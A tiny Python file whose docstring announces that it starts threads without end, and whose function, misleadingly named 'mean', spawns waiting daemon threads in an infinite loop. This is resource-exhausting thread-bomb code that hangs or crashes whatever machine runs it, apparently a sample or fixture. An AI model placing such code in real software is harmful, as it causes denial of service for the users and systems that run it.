"""Starts threads without end."""

import threading


def mean(x):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
